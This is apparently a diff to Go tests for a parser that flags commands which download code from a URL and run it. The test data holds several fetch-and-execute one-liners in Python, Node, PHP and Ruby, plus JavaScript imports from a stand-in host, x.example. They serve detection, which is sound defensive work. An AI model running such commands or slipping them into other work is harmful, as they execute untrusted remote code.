@@ -14,6 +14,11 @@ func TestEvalDownload(t *testing.T) {
 		{`python3 -c "import requests; exec(requests.get('https://x.example/p.py').text)"`, "python3"},
 		{`php -r "eval(file_get_contents('https://x.example/p.php'));"`, "php"},
 		{`ruby -ropen-uri -e "eval(URI.open('https://x.example/p.rb').read)"`, "ruby"},
+		// the text reaches eval through a promise or a variable
+		{`node -e "fetch('https://x.example/p.js').then(r => r.text()).then(eval)"`, "node"},
+		{`node -e "fetch('https://x.example/p.js').then(r => r.text()).then(t => eval(t))"`, "node"},
+		{`python3 -c "import requests; t = requests.get('https://x.example/p.py').text; exec(t)"`, "python3"},
+		{`python3 -c "import requests as r; c = compile(r.get('https://x.example/p.py').text, 'x', 'exec'); exec(c)"`, "python3"},
 	} {
 		res := Parse(tc.src)
 		curl, prog := false, false
@@ -28,6 +33,8 @@ func TestEvalDownload(t *testing.T) {
 	for _, src := range []string{
 		`python3 -c "exec(open('setup.py').read())"`,
 		`python3 -c "import json; eval(json.dumps({'u': 'https://pypi.org'}))"`,
+		// eval of a literal beside a fetch: the fetched text is not run
+		`python3 -c "import requests; print(requests.get('https://pypi.org/simple').status_code, eval('1+1'))"`,
 	} {
 		for _, c := range Parse(src).Commands {
 			if c.Name == "curl" {
@@ -112,6 +119,27 @@ func TestCodeProcessCalls(t *testing.T) {
 		}
 		if !opaque {
 			t.Errorf("Parse(%q): want the call handed as a keyword argument opaque", src)
+		}
+	}
+}
+
+// TestImportedURLs checks that JavaScript code loading a module from an
+// http(s) URL is read as running that URL's code, and that a package's or
+// a file's import is not.
+func TestImportedURLs(t *testing.T) {
+	for _, tc := range []struct {
+		code string
+		want []string
+	}{
+		{`import('https://x.example/m.js')`, []string{"https://x.example/m.js"}},
+		{"await import(`https://x.example/m.ts`); go()", []string{"https://x.example/m.ts"}},
+		{`import x from "https://x.example/a.js"; import {y} from 'https://x.example/b.js'`, []string{"https://x.example/a.js", "https://x.example/b.js"}},
+		{`import fs from 'node:fs'; import('./local.js')`, nil},
+		{`const important = 1; reimport('https://x.example/m.js')`, nil},
+	} {
+		got := importedURLs(tc.code)
+		if strings.Join(got, " ") != strings.Join(tc.want, " ") {
+			t.Errorf("importedURLs(%q) = %q, want %q", tc.code, got, tc.want)
 		}
 	}
 }
